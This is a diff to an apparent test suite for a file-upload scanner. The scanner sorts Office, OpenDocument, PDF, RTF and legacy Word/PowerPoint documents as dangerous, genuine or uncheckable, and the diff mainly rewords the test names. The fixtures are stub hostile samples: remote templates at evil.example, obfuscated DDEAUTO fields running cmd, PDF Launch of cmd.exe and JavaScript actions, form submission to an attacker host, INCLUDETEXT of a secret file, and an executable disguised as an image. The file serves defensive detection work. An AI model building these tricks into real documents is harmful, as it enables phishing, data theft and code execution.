@@ -23,15 +23,15 @@ const packed = (objects: string, more = '') => {
 
 describe('a .docx', () => {
   test.each([
-    ['a template of another computer', relation('attachedTemplate', 'https://evil.example/t.dotm')],
-    ['a template of a share', relation('attachedTemplate', 'file://server/t.dotm')],
+    ['a template on another computer', relation('attachedTemplate', 'https://evil.example/t.dotm')],
+    ['a template on a share', relation('attachedTemplate', 'file://server/t.dotm')],
     ['an object', relation('oleObject', 'embeddings/oleObject1.bin', 'Internal')],
     ['a linked object', relation('oleObject', 'mhtml:http://evil.example/x!x-usc:http://evil.example/x')],
     ['an ActiveX control', relation('control', 'activeX/activeX1.xml', 'Internal')],
-    ['a file of another format to be taken in', relation('aFChunk', 'x.rtf', 'Internal')],
+    ['an included file of another format', relation('aFChunk', 'x.rtf', 'Internal')],
     ['a file', relation('package', 'embeddings/x.docm', 'Internal')],
-    ['a relationship to somewhere strange', relation('frame', 'https://evil.example')],
-    ['a program under an innocent name', part('MZ\u0090', 'word/media/image1.png')],
+    ['an external frame', relation('frame', 'https://evil.example')],
+    ['a program with a harmless name', part('MZ\u0090', 'word/media/image1.png')],
     ['a deleted DDE field', part('<x:fldChar x:fldCharType="begin"/><w:delInstrText>DDE c</w:delInstrText>')],
     [
       'a DDE field around deleted text',
@@ -53,35 +53,35 @@ describe('a .docx', () => {
       ),
     ],
     [
-      'a template of another computer under capitals',
+      'a template on another computer in a part with a name in capitals',
       { ...relation('attachedTemplate', 'https://evil.example/t.dotm'), name: 'word/_rels/settings.xml.RELS' },
     ],
     ['a DDE field in UTF-16', part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE c"/>', 'utf16le'))],
     ['a click that starts a program', part('<a:hlinkClick action="ppaction://program"/>')],
-    ['a picture of a share', relation('image', '\\\\host\\a.png')],
-    ['a picture of a share by its codes', relation('image', 'file:%5c%5chost%5ca.png')],
-    ['a picture of a page, which tells who reads', relation('image', 'https://evil.example/a.png')],
-    ['a film of a share', relation('video', 'file://host/a.mp4')],
+    ['a picture on a share', relation('image', '\\\\host\\a.png')],
+    ['a picture on a share with an encoded address', relation('image', 'file:%5c%5chost%5ca.png')],
+    ['a picture on the web, which reveals the reader', relation('image', 'https://evil.example/a.png')],
+    ['a film on a share', relation('video', 'file://host/a.mp4')],
     ['a drawn picture that names its source', part('<v:imagedata src="//host/a.png"/>')],
-    ['a text to be taken in', part('<w:fldSimple w:instr="INCLUDETEXT c:\\secret.txt"/>')],
-    ['a picture to be fetched by a field', part('<w:fldSimple w:instr=" includepicture &quot;http://evil/a&quot;"/>')],
+    ['an included text', part('<w:fldSimple w:instr="INCLUDETEXT c:\\secret.txt"/>')],
+    ['a picture that a field fetches', part('<w:fldSimple w:instr=" includepicture &quot;http://evil/a&quot;"/>')],
     [
-      'a field whose name other fields put together',
+      'a field whose name other fields assemble',
       part(
         '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:fldSimple w:instr="QUOTE 68 69"/><w:fldChar w:fldCharType="separate"/>',
       ),
     ],
     ['a workbook with programs', part(makeZip([part('<ddeLink/>', 'xl/x.xml')]), 'word/embeddings/x.xlsx')],
-    ['a workbook that is none', part('PK', 'word/embeddings/x.xlsx')],
+    ['an invalid workbook', part('PK', 'word/embeddings/x.xlsx')],
   ])('with %s is refused', async (_what, entry) => {
     expect(await findingOf('docx', docx(entry))).toBe('programs');
   });
 
   test.each([
-    ['a template of the computer it was made on', relation('attachedTemplate', 'file:///C:\\Users\\Zo%C3%A9\\CV.dotx')],
+    ['a template on the author’s computer', relation('attachedTemplate', 'file:///C:\\Users\\Zo%C3%A9\\CV.dotx')],
     ['a link', relation('hyperlink', 'https://www.example.org/dde')],
-    ['a picture of the computer it was made on', relation('image', 'file:///C:\\Users\\Zo%C3%A9\\logo.png')],
-    ['a film of a page', relation('video', 'https://www.example.org/embed/x')],
+    ['a picture on the author’s computer', relation('image', 'file:///C:\\Users\\Zo%C3%A9\\logo.png')],
+    ['a film on the web', relation('video', 'https://www.example.org/embed/x')],
     [
       'a page number in a table of contents, and the picture of an e-mail',
       part(
@@ -98,19 +98,19 @@ describe('a .docx', () => {
     expect(await findingOf('docx', docx(entry))).toBe('genuine');
   });
 
-  test('whose content types name macros is refused, whatever the names of its parts', async () => {
+  test('with a content type of macros is refused, whatever the names of its parts', async () => {
     const types = `<Types><Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/><Override ContentType="${media}.wordprocessingml.document.main+xml"/></Types>`;
     const bytes = makeZip([{ name: '[Content_Types].xml', text: types }, part('<x/>', 'word/document.xml')]);
     expect(await findingOf('docx', bytes)).toBe('macros');
   });
 
   test.each([
-    ['in an encoding of its own', part('<?xml version="1.0" encoding="UTF-7"?><x/>')],
-    ['with words of its own', part('<!DOCTYPE x [<!ENTITY d "DDE">]><x/>')],
+    ['in an unusual encoding', part('<?xml version="1.0" encoding="UTF-7"?><x/>')],
+    ['with entities of its own', part('<!DOCTYPE x [<!ENTITY d "DDE">]><x/>')],
     ['larger than can be read', part(`<x>${' '.repeat(9 * 1024 * 1024)}</x>`)],
-    ['nested without end', part('<x>'.repeat(10_000))],
+    ['nested endlessly', part('<x>'.repeat(10_000))],
     ['of countless elements', part(`<x>${'<y/>'.repeat(400_000)}</x>`)],
-    ['that is no text in its encoding', part(Buffer.from('<x a="\xe9"/>', 'latin1'))],
+    ['that is invalid in its encoding', part(Buffer.from('<x a="\xe9"/>', 'latin1'))],
   ])('with a part %s cannot be checked', async (_what, entry) => {
     expect(await findingOf('docx', docx(entry))).toBe('locked');
   });
@@ -132,7 +132,7 @@ describe('an OpenDocument', () => {
 
   test.each([
     ['a click to the next slide', '<presentation:event-listener presentation:action="next-page"/>'],
-    ['a template of its computer', '<meta:template xlink:href="../templates/cv.ott"/>'],
+    ['a template on its computer', '<meta:template xlink:href="../templates/cv.ott"/>'],
     ['a link', '<text:a xlink:href="https://example.org"/><svg:title>Service: ventes</svg:title>'],
   ])('with %s is accepted', async (_what, text) => {
     expect(await findingOf('odp', odp(styles(text)))).toBe('genuine');
@@ -142,24 +142,24 @@ describe('an OpenDocument', () => {
 describe('a PDF', () => {
   test.each([
     ['a script', makePdf('<</S/JavaScript/JS(app.alert\\(1\\))>>')],
-    ['a script under an escaped name', makePdf('<</S/J#61vaScript>>')],
-    ['a script behind a comment and a string', makePdf('<</A(\\)>>)%>>\n/B[<6A> <</JS 5 0 R>>]>>')],
-    ['a start of a program', makePdf('<</S/Launch/F(cmd.exe)>>')],
-    ['data to be taken in', makePdf('<</S/ImportData/F(x.fdf)>>')],
+    ['a script with an escaped name', makePdf('<</S/J#61vaScript>>')],
+    ['a script after a comment and a string', makePdf('<</A(\\)>>)%>>\n/B[<6A> <</JS 5 0 R>>]>>')],
+    ['a program start', makePdf('<</S/Launch/F(cmd.exe)>>')],
+    ['imported data', makePdf('<</S/ImportData/F(x.fdf)>>')],
     ['a form that is sent', makePdf('<</S/SubmitForm/F(https://evil.example)>>')],
-    ['another file to be opened', makePdf('<</S/GoToR/F(\\\\\\\\host\\\\x.pdf)>>')],
-    ['an attached file to be opened', makePdf('<</S/GoToE>>')],
+    ['a link to another file', makePdf('<</S/GoToR/F(\\\\\\\\host\\\\x.pdf)>>')],
+    ['a link to an attached file', makePdf('<</S/GoToE>>')],
     ['an attached file', makePdf('<</EF<</F 5 0 R>>/F(cv.exe)>>')],
-    ['an attached file of two names', makePdf('<</EF<</F 5 0 R>>/F(cv.xml)/F(cv.hta)>>')],
-    ['an attached file whose name is elsewhere', makePdf('<</EF<</F 5 0 R>>/F 6 0 R>>')],
+    ['an attached file with two names', makePdf('<</EF<</F 5 0 R>>/F(cv.xml)/F(cv.hta)>>')],
+    ['an attached file whose name is in another object', makePdf('<</EF<</F 5 0 R>>/F 6 0 R>>')],
     ['a form with scripts', makePdf('<</AcroForm<</XFA 5 0 R>>>>')],
     ['a thread of another file', makePdf('<</OpenAction<</S/Thread/F(x.pdf)>>>>')],
-    ['a thread of another file, its kind elsewhere', makePdf('<</S 7 0 R/F(x.pdf)>>endobj 7 0 obj/Thread ')],
-    ['a thread of another file in an object that is broken', makePdf('<</S/Thread/F(x.pdf){>>')],
-    ['a script behind a stray character', makePdf('<< > /S /JavaScript /JS (app.alert) >>')],
-    ['a start of a program in an object that is broken', makePdf('<</Type/Action{/S/L#61unch/F(cmd.exe)>>')],
+    ['a thread of another file with its type elsewhere', makePdf('<</S 7 0 R/F(x.pdf)>>endobj 7 0 obj/Thread ')],
+    ['a thread of another file in a damaged object', makePdf('<</S/Thread/F(x.pdf){>>')],
+    ['a script after a stray character', makePdf('<< > /S /JavaScript /JS (app.alert) >>')],
+    ['a program start in a damaged object', makePdf('<</Type/Action{/S/L#61unch/F(cmd.exe)>>')],
     ['a script in an object stream', packed('<</S/JavaScript>>')],
-    ['a script in an object that hides in a stream', makePdf('<<>>stream\n7 0 obj<</JS(x)>>endobj\nendstream')],
+    ['a script in an object hidden in a stream', makePdf('<<>>stream\n7 0 obj<</JS(x)>>endobj\nendstream')],
   ])('with %s is refused', async (_what, bytes) => {
     expect(await findingOf('pdf', bytes)).toBe('programs');
   });
@@ -168,11 +168,11 @@ describe('a PDF', () => {
     ['a link', makePdf('<</S/URI/URI(https://example.org/JS /JavaScript)>>')],
     ['a first page', makePdf('<</OpenAction[3 0 R/Fit]/Names<</Dests 5 0 R>>>>')],
     [
-      'itself as XML, as those of Europass',
+      'its own data as XML, like Europass',
       makePdf('<</EF<</F 5 0 R>>/F(attachment.xml)/UF(\\376\\377\\000a\\000.\\000x\\000m\\000l)>>'),
     ],
     ['objects in a stream', packed('<</Type/Font>>')],
-    ['a thread of its own', makePdf('<</S/Thread/D 5 0 R>>endobj 5 0 obj<</Type/Thread/F 6 0 R>>')],
+    ['a thread in the same file', makePdf('<</S/Thread/D 5 0 R>>endobj 5 0 obj<</Type/Thread/F 6 0 R>>')],
     ['words in a picture', makePdf('<<>>stream\n\u0001obj /JS\u0002 /JavaScript endstream')],
   ])('with %s is accepted', async (_what, bytes) => {
     expect(await findingOf('pdf', bytes)).toBe('genuine');
@@ -181,18 +181,18 @@ describe('a PDF', () => {
   test.each([
     ['is encrypted', makePdf('<</Type/XRef/Encrypt 9 0 R>>')],
     ['has damaged object streams', makePdf('<</First 4/Filter/FlateDecode>>stream\nnothing')],
-    ['hides its objects behind a stray character', makePdf('<< ) /Type/ObjStm/N 1/First 4>>stream\nx')],
-    ['packs objects as nobody does', packed('<<>>', '/DecodeParms<</Predictor 12>>')],
+    ['hides its objects after a stray character', makePdf('<< ) /Type/ObjStm/N 1/First 4>>stream\nx')],
+    ['packs objects in an unusual way', packed('<<>>', '/DecodeParms<</Predictor 12>>')],
     ['unpacks to more than four megabytes', packed(' '.repeat(5 * 1024 * 1024))],
-    ['would be read for ever', makePdf('obj (('.repeat(100_000))],
+    ['would take for ever', makePdf('obj (('.repeat(100_000))],
     ['holds countless values', makePdf(`[${'1 '.repeat(200_000)}]`)],
     ['holds countless objects', makePdf('obj<<>>'.repeat(100_000))],
     ['holds countless objects in a stream', packed(`[${'<</A/B>>'.repeat(100_000)}]`)],
     [
-      'lists countless objects of a stream',
+      'lists countless objects in a stream',
       makePdf('<</First 800000/Filter/FlateDecode>>stream\n', deflateSync('1 '.repeat(400_000))),
     ],
-    ['is nested without end', makePdf('<</A'.repeat(10_000), 'obj<</A'.repeat(10_000))],
+    ['is nested endlessly', makePdf('<</A'.repeat(10_000), 'obj<</A'.repeat(10_000))],
   ])('that %s cannot be checked', async (_what, bytes) => {
     expect(await findingOf('pdf', bytes)).toBe('locked');
   });
@@ -201,35 +201,35 @@ describe('a PDF', () => {
 describe('an .rtf', () => {
   test.each([
     ['an object', '{\\object\\objemb{\\*\\objdata 0105}}'],
-    ['an object behind raw bytes', '{\\bin8 \\objdata 0105}'],
+    ['an object after raw bytes', '{\\bin8 \\objdata 0105}'],
     ['a DDE field', '{\\field{\\*\\fldinst {\\b DD}{E\\u65?\\\'55TO} "cmd"}}'],
     ['a template from elsewhere', '{\\*\\template https://evil.example/t.dot}'],
-    ['a template of a share', '{\\*\\template \\\\\\\\server\\\\t.dot}'],
-    ['a text to be taken in', '{\\field{\\*\\fldinst INCLUDETEXT "c:\\\\secret"}}'],
-    ['a picture of a share', '{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\host\\\\a.png" \\\\d}}'],
-    ['a picture of a page', '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a"}}'],
-    ['a shape that shows a share', '{\\sp{\\sn pibName}{\\sv \\\\\\\\host\\\\a.png}}'],
-    ['a DDE field behind blanks', `{\\field{\\*\\fldinst ${' '.repeat(5000)}DDEAUTO cmd}}`],
-    ['a DDE field behind empty groups', `{\\field{\\*\\fldinst ${'{}'.repeat(2100)}DDEAUTO cmd}}`],
-    ['a DDE field behind what readers skip', '{\\field{\\*\\fldinst {\\*\\foo zz}DDEAUTO cmd}}'],
-    ['a DDE field behind a bookmark', '{\\field{\\*\\fldinst {\\*\\bkmkstart zz}{\\fonttbl zz}DDEAUTO cmd}}'],
-    ['a DDE field by a word that readers know', '{\\field{\\*\\fldinst {\\*\\b DDE}AUTO cmd}}'],
-    ['a DDE field behind other characters', '{\\field{\\*\\fldinst \\uc3\\u68xyzDEAUTO cmd}}'],
-    ['a DDE field behind characters told before', '\\uc3 {\\field{\\*\\fldinst \\u68xyzDEAUTO cmd}}'],
-    ['a field whose name another puts together', '{\\field{\\*\\fldinst D{\\field{\\*\\fldinst QUOTE 68 69}} "cmd"}}'],
+    ['a template on a share', '{\\*\\template \\\\\\\\server\\\\t.dot}'],
+    ['an included text', '{\\field{\\*\\fldinst INCLUDETEXT "c:\\\\secret"}}'],
+    ['a picture on a share', '{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\host\\\\a.png" \\\\d}}'],
+    ['a picture on the web', '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a"}}'],
+    ['a shape with a picture on a share', '{\\sp{\\sn pibName}{\\sv \\\\\\\\host\\\\a.png}}'],
+    ['a DDE field after blanks', `{\\field{\\*\\fldinst ${' '.repeat(5000)}DDEAUTO cmd}}`],
+    ['a DDE field after empty groups', `{\\field{\\*\\fldinst ${'{}'.repeat(2100)}DDEAUTO cmd}}`],
+    ['a DDE field after a group that readers skip', '{\\field{\\*\\fldinst {\\*\\foo zz}DDEAUTO cmd}}'],
+    ['a DDE field after a bookmark', '{\\field{\\*\\fldinst {\\*\\bkmkstart zz}{\\fonttbl zz}DDEAUTO cmd}}'],
+    ['a DDE field in a destination that readers know', '{\\field{\\*\\fldinst {\\*\\b DDE}AUTO cmd}}'],
+    ['a DDE field after fallback characters', '{\\field{\\*\\fldinst \\uc3\\u68xyzDEAUTO cmd}}'],
+    ['a DDE field after fallback characters set earlier', '\\uc3 {\\field{\\*\\fldinst \\u68xyzDEAUTO cmd}}'],
+    ['a field name from another field', '{\\field{\\*\\fldinst D{\\field{\\*\\fldinst QUOTE 68 69}} "cmd"}}'],
   ])('with %s is refused', async (_what, text) => {
     expect(await findingOf('rtf', rtf(text))).toBe('programs');
   });
 
   test.each([
-    ['a template of its computer', '{\\*\\template C:\\\\Users\\\\Zo\\u233?\\\\Normal.dotm}'],
+    ['a template on its computer', '{\\*\\template C:\\\\Users\\\\Zo\\u233?\\\\Normal.dotm}'],
     ['a link', '{\\field{\\*\\fldinst HYPERLINK "https://www.example.org/dde"}}'],
-    ['a picture that was copied from a page', '{\\sp{\\sn pibName}{\\sv https://www.example.org/a.png}}'],
+    ['a picture copied from a web page', '{\\sp{\\sn pibName}{\\sv https://www.example.org/a.png}}'],
     [
       'a link as Word writes it',
       '\\uc1{\\field{\\*\\fldinst {\\b HYPERLINK "https://x/\\u233\\\'e9" }{{\\*\\datafield 00d0c9ea}}}{\\fldrslt x}}',
     ],
-    ['what Word writes anyway', '{\\*\\datastore 0105000002000000}'],
+    ['the groups that Word always writes', '{\\*\\datastore 0105000002000000}'],
   ])('with %s is accepted', async (_what, text) => {
     expect(await findingOf('rtf', rtf(text))).toBe('genuine');
   });
@@ -249,17 +249,17 @@ describe('a Word or PowerPoint document up to 2003', () => {
     ['an equation', makeOle(['WordDocument', 'Equation Native'])],
     ['an equation in capitals', makeOle(['WordDocument', 'EQUATION NATIVE'])],
     ['a DDE field', Buffer.concat([documents.doc, Buffer.from('\u0013 DDEAUTO cmd')])],
-    ['a DDE field of two bytes a character', Buffer.concat([documents.doc, Buffer.from('\u0013DDE c', 'utf16le')])],
+    ['a DDE field with two bytes a character', Buffer.concat([documents.doc, Buffer.from('\u0013DDE c', 'utf16le')])],
   ])('with %s is refused', async (_what, bytes) => {
     expect(await findingOf('doc', bytes)).toBe('programs');
   });
 
   test.each([
     ['a DDE field in pieces', makeWord(['x\u0013 DD', 'EAUTO cmd'])],
-    ['a DDE field whose name another puts together', makeWord(['\u0013D', '\u0013QUOTE 68 69\u0015 cmd'])],
-    ['a template of a share', makeWord(['x'], '\\\\host\\t.dot')],
-    ['a template of a page', makeWord(['x'], 'https://evil.example/t.dot')],
-    ['a picture of a share', makeWord(['\u0013INCLUDEPICTURE "\\\\\\\\host\\\\a.png"'])],
+    ['a DDE field whose name another field assembles', makeWord(['\u0013D', '\u0013QUOTE 68 69\u0015 cmd'])],
+    ['a template on a share', makeWord(['x'], '\\\\host\\t.dot')],
+    ['a template on the web', makeWord(['x'], 'https://evil.example/t.dot')],
+    ['a picture on a share', makeWord(['\u0013INCLUDEPICTURE "\\\\\\\\host\\\\a.png"'])],
   ])('with %s is refused, in the order of its tables', async (_what, bytes) => {
     expect(await findingOf('doc', bytes)).toBe('programs');
   });
@@ -276,7 +276,7 @@ describe('a Word or PowerPoint document up to 2003', () => {
     expect(await findingOf('ppt', makePowerPoint('0f00ee03'))).toBe('genuine');
   });
 
-  test('whose slides are missing or broken cannot be checked', async () => {
+  test('with missing or broken slides cannot be checked', async () => {
     const cut = Buffer.from(makePowerPoint());
     const circle = Buffer.from(makePowerPoint());
     circle.writeUInt32LE(2, 512 + 4 * 9);
